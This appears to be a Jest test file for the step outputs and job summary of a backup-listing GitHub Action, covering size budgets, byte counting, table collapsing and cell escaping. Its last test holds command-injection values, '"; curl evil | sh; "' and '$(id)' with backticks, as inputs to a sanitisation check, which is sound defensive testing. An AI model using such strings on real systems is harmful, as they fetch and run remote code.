import { describe, expect, it } from '@jest/globals'
import { OUTPUTS_BUDGET_BYTES, outputBytes } from '../../src/step-outputs.js'
import { aBackup, HOUR } from '../fixtures/backups.js'
import { recordingReport } from '../fixtures/contexts.js'

describe('StepOutputs and JobSummary', () => {
  it('keeps the backups output under GitHub’s 1 MB limit by leaving whole items out, never reshaping them', () => {
    const { outputs: step, last: outputs } = recordingReport()
    const backups = Array.from({ length: 6000 }, (_, i) =>
      aBackup({ id: String(i), ageMs: i * HOUR, name: `nightly-${i}` })
    )
    for (const backup of backups) {
      backup.raw = {
        id: Number(backup.id),
        metadata: { name: backup.name },
        padding: 'x'.repeat(300)
      }
    }

    const { kept } = step.backups(backups, undefined)
    const listed = JSON.parse(outputs.get('backups') ?? '') as unknown[]
    expect(kept).toBeLessThan(backups.length)
    expect(listed).toEqual(backups.slice(0, kept).map(backup => backup.raw))
    const total = [...outputs].reduce((sum, [name, value]) => sum + outputBytes(name, value), 0)
    expect(total).toBeLessThanOrEqual(OUTPUTS_BUDGET_BYTES)
    expect(2 * (outputs.get('backups') ?? '').length).toBeLessThanOrEqual(OUTPUTS_BUDGET_BYTES)
    expect(listed[0]).toMatchObject({ id: 0, metadata: { name: 'nightly-0' } })
    expect(listed.length).toBeGreaterThan(1000)
    expect(outputs.get('count')).toBe('6000')
  })

  it('counts non-Latin text as UTF-8 when that is more than UTF-16', () => {
    expect(outputBytes('a', 'bc')).toBe(6)
    expect(outputBytes('n', '東京')).toBe(7)
  })

  it('leaves an output empty, with a warning, when it would take the outputs over budget', () => {
    const { outputs, last, warnings } = recordingReport()
    outputs.json('backup', { padding: 'x'.repeat(OUTPUTS_BUDGET_BYTES) })
    expect(last.get('backup')).toBe('')
    expect(warnings[0]).toMatch(/^Output "backup" is left empty/)
  })

  it('collapses long tables and shows at most 100 rows', async () => {
    const { summary, markdown } = recordingReport()
    summary.outcome('✅', 'GWCP list of star system pc: 300 backup(s)')
    summary.table(
      'Backups',
      Array.from({ length: 300 }, (_, i) => ({ backup: aBackup({ id: `b${i}` }) }))
    )
    await summary.flush()
    expect(markdown()).toContain('<details><summary><b>Backups</b> (300)</summary>')
    expect(markdown().match(/^\| `b\d+` \| ✅/gm)).toHaveLength(100)
    expect(markdown()).toContain('…and 200 more rows, not shown.')
  })

  it('escapes table cells', async () => {
    const { summary, markdown } = recordingReport()
    summary.outcome('✅', 'x')
    summary.table('Backup', [{ backup: aBackup({ id: '1', name: 'a|b\nc' }) }])
    await summary.flush()
    expect(markdown()).toContain('| a\\|b\\\\nc |')
  })

  it('writes outputs again whenever the backup changes, and only then', () => {
    const { outputs: step, sets: outputs } = recordingReport()
    const pending = aBackup({ id: '1', status: 'pending', displayStatus: 'queued' })
    const started = { ...pending, displayStatus: 'starting' }
    step.backup(pending)
    step.backup({ ...pending })
    pending.raw = { ...pending.raw, displayStatus: 'queued' }
    started.raw = { ...pending.raw, displayStatus: 'starting' }
    step.backup(started)
    expect(outputs.filter(([name]) => name === 'displayStatus').map(([, v]) => v)).toEqual([
      'queued',
      'starting'
    ])
    expect(step.last).toBe(started)
  })

  it.each([
    ['succeeded', 'succeeded'],
    ['IN PROGRESS', 'IN PROGRESS'],
    ['2026-11-30T12:00:00+01:00', '2026-11-30T12:00:00+01:00'],
    ['"; curl evil | sh; "', '__ curl evil _ sh_ _'],
    ['a$(id)`b`', 'a__id__b_'],
    ['état\n', '_tat_']
  ])('writes %j to an output that holds one value as %j', (value, written) => {
    const { outputs, last, warnings } = recordingReport()
    outputs.output('status', value)
    expect(last.get('status')).toBe(written)
    expect(warnings).toHaveLength(value === written ? 0 : 1)
  })
})
